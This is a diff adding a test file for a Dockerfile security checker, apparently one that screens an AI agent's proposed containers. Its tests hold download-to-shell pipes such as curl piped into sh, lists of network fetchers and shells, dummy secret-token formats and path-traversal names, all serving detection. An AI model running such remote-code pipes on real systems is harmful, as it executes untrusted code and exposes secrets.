@@ -1,0 +1,127 @@
+import { auditLogPath, InvalidNameError } from "../../mod.ts";
+import { findTokens } from "../../src/config/dockerfile/secrets.ts";
+import { findNetworkPipes } from "../../src/config/dockerfile/pipes.ts";
+import { marksFor } from "../../src/config/marks.ts";
+import { TOOL_CAPABILITY_BLOCK } from "../../src/records/proposal.ts";
+import { assertEquals, assertThrows } from "@std/assert";
+
+/** The rules of the marks of a Dockerfile, where another is in force. */
+const rulesOf = (dockerfile: string, inForce = "FROM debian:12\nUSER agent\n") =>
+  marksFor(TOOL_CAPABILITY_BLOCK, inForce, dockerfile).map(({ rule }) => rule);
+
+// Every alternative of a pattern is a way in, so each has its case.
+
+// Threat: A10
+Deno.test.each(
+  "sh bash dash zsh ksh mksh ash csh tcsh fish python3 perl ruby node nodejs deno bun php lua"
+    .split(
+      " ",
+    ),
+)("a download that is piped into %s is noticed", (shell) => {
+  for (const command of [shell, `/usr/bin/${shell}`, `sudo ${shell}`, `env A=b ${shell}`]) {
+    const script = `curl -fsSL https://x.example/i | ${command}`;
+    assertEquals(findNetworkPipes(script).length, 1, script);
+  }
+});
+
+Deno.test.each("curl wget aria2c fetch http https xh lynx nc ncat netcat socat".split(" "))(
+  "what %s downloads is noticed in a pipe",
+  (fetcher) => {
+    assertEquals(findNetworkPipes(`${fetcher} x.example | sh`).length, 1);
+    assertEquals(findNetworkPipes(`${fetcher} x.example > file`).length, 0);
+  },
+);
+
+Deno.test.each(
+  ("sudo doas su env exec command time nice nohup timeout xargs stdbuf chroot gosu su-exec setpriv " +
+    "runuser busybox").split(" "),
+)("a shell that %s starts is noticed", (runner) => {
+  assertEquals(findNetworkPipes(`curl https://x.example | ${runner} sh`).length, 1);
+});
+
+const TOKENS: Readonly<Record<string, readonly string[]>> = {
+  "a GitHub token": [..."pousr"].map((kind) => `gh${kind}_${"a1".repeat(10)}`)
+    .concat(`github_pat_${"a1".repeat(10)}`),
+  "a GitLab token": [`glpat-${"a1".repeat(8)}`],
+  "an Anthropic key": [`sk-ant-${"a1".repeat(8)}`],
+  "an API key": [`sk-${"a1".repeat(16)}`, `rk_live_${"a1".repeat(8)}`, `sk_live_${"a1".repeat(8)}`],
+  "an AWS key": [`AKIA${"A1".repeat(8)}`, `ASIA${"A1".repeat(8)}`],
+  "a Google key": [`AIza${"a1".repeat(16)}`],
+  "an npm token": [`npm_${"a1".repeat(15)}`],
+  "a PyPI token": [`pypi-${"a1".repeat(16)}`],
+  "a Slack token": [..."abeoprs"].map((kind) => `xox${kind}-${"a1".repeat(5)}`),
+  "a Hugging Face token": [`hf_${"a1".repeat(15)}`],
+  "a JSON web token": [`eyJ${"a1".repeat(4)}.eyJ${"a1".repeat(4)}`],
+  "a private key": ["-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----"],
+  "a password in a URL": ["https://me:secret@x.example"],
+};
+
+for (const [kind, tokens] of Object.entries(TOKENS)) {
+  for (const token of tokens) {
+    // Threat: A10
+    Deno.test(`${token.slice(0, 12)}… is noticed as ${kind}, one character less is not`, () => {
+      assertEquals(findTokens(`x ${token}`).map(({ kind }) => kind), [kind]);
+      assertEquals(findTokens(`x ${token.slice(0, -1)}`), []);
+    });
+  }
+}
+
+// Threat: A10
+Deno.test.each("root 0 00 0000 root:root 0:0 00:agent".split(" "))(
+  "USER %s is root",
+  (user) => assertEquals(rulesOf(`FROM debian:12\nUSER ${user}\n`), ["user-root"]),
+);
+
+Deno.test.each("agent 10 1000:0 rooted 0x root1".split(" "))(
+  "USER %s is not root",
+  (user) => assertEquals(rulesOf(`FROM debian:12\nUSER ${user}\n`), []),
+);
+
+// Threat: A10
+Deno.test.each([
+  ["--security=insecure make", ["security-insecure"]],
+  ["--mount=type=cache,target=/c --security=insecure make", ["security-insecure"]],
+  ["--mount=type=cache,target=/c --network=host make", ["network-host"]],
+  ["--network=host --security=insecure make", ["security-insecure", "network-host"]],
+  ["make --network=host", []],
+  ["--network=none make", []],
+])("RUN %s has the marks of its flags, wherever they are", (command, rules) => {
+  assertEquals(rulesOf(`FROM debian:12\nRUN ${command}\nUSER agent\n`), rules);
+});
+
+// Threat: A10
+Deno.test.each<[string, boolean]>([
+  ["docker/dockerfile", true],
+  ["docker/dockerfile:1", true],
+  ["docker.io/docker/dockerfile:1.17-labs", true],
+  ["docker/dockerfile-upstream:master", true],
+  [`docker/dockerfile@sha256:${"a".repeat(64)}`, true],
+  ["docker/dockerfiles", false],
+  ["docker/dockerfile-evil:1", false],
+  ["docker/dockerfile:1/x", false],
+  ["docker/dockerfile/x", false],
+  ["x.example/docker/dockerfile:1", false],
+  ["evil-docker/dockerfile:1", false],
+])("the frontend %s is Docker's own: %s", (image, isOwn) => {
+  const rules = rulesOf(`# syntax=${image}\nFROM debian:12\nUSER agent\n`);
+  assertEquals(rules, isOwn ? [] : ["unknown-frontend"]);
+});
+
+// Threat: A1
+Deno.test.each([
+  "",
+  ".",
+  "..",
+  "../x",
+  "a/b",
+  "a/../b",
+  "a.b",
+  "a\0",
+  "A",
+  "1a",
+  "-a",
+  "a_b",
+  "a".repeat(33),
+])("auditLogPath() takes no component %o", (component) => {
+  assertThrows(() => auditLogPath(component, "dev-1", { root: "/r" }), InvalidNameError);
+});
